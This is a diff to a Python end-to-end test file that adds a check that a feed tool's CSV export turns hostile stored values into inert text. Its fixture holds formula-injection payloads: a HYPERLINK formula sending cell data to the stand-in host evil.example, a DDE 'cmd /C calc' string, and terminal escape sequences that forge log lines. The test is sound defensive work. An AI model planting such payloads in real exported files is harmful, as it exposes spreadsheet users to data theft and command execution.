@@ -8,7 +8,7 @@ from pathlib import Path
 import pytest
 
 from tests.helpers import ROOT, python, watcher
-from watcher.store import SCHEMA_HEAD
+from watcher.store import SCHEMA_HEAD, Store
 
 #: Every test here starts a process.
 pytestmark = pytest.mark.e2e
@@ -257,6 +257,58 @@ def test_run_once_then_list_and_export(tmp_path: Path, db_url: str) -> None:
             "--config", str(cfg), "--db", db_url, "export", "items", "--format", "csv"
         )
         assert csv_out.stdout.splitlines()[0].startswith("source,key,url,title")
+
+
+#: (stored value, its CSV cell): what a source wrote, as an older watcher may have stored it,
+#: and how a spreadsheet gets it: text, never a formula, no control character.
+CSV_CELLS = {
+    "title": ('=HYPERLINK("http://evil.example/?x="&A1,"click") defectors', "'=HYPERLINK("),
+    "text": ("+cmd|' /C calc'!A0 lead", "'+cmd|' /C calc'!A0 lead"),
+    "key": ("s:g\x1b[31mRED\x1b[0m\nFAKE LOG LINE", "s:g[31mRED[0m FAKE LOG LINE"),
+    "lang": ("\x1b]0;owned\x07", "]0;owned"),
+    "published_raw": ("\t-2026\r", "'-2026"),
+    "url": ("https://e.org/@x?a=-1", "https://e.org/@x?a=-1"),
+}
+
+
+def test_csv_export_cells_are_text_a_spreadsheet_never_runs(
+    tmp_path: Path, db_url: str, store: Store
+) -> None:
+    import csv
+    import io
+    from datetime import UTC, datetime
+
+    from watcher.config import load_config
+    from watcher.types import Item
+
+    at = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)
+    values = {name: stored for name, (stored, _) in CSV_CELLS.items()}
+    plain = Item(
+        key="https://e.org/2",
+        source_id="s",
+        url="https://e.org/2",
+        title="Plain - a title",
+        text="@ the border",
+        lang="en",
+        published_at=None,
+        published_raw=None,
+        fetched_at=at,
+    )
+    cfg = tmp_path / "sources.yaml"
+    cfg.write_text("sources:\n  - {id: s, kind: feed, url: 'https://e.org/feed'}\n")
+    store.sync_sources(load_config(str(cfg)).config.sources, at)
+    store.save_items(
+        [Item(source_id="s", published_at=None, fetched_at=at, **values), plain], now=at
+    )
+    done = watcher("--config", str(cfg), "--db", db_url, "export", "items", "--format", "csv")
+    assert done.returncode == 0, done.stderr
+    assert len(done.stdout.splitlines()) == 3  # a header and one line per item
+    rows = {r["url"]: r for r in csv.DictReader(io.StringIO(done.stdout))}
+    hostile, kept = rows["https://e.org/@x?a=-1"], rows["https://e.org/2"]
+    for name, (_, cell) in CSV_CELLS.items():
+        assert hostile[name].startswith(cell), (name, hostile[name])
+        assert hostile[name].isprintable(), name
+    assert (kept["title"], kept["text"]) == ("Plain - a title", "'@ the border")
 
 
 def test_sources_test_prints_items_without_storing(tmp_path: Path) -> None:
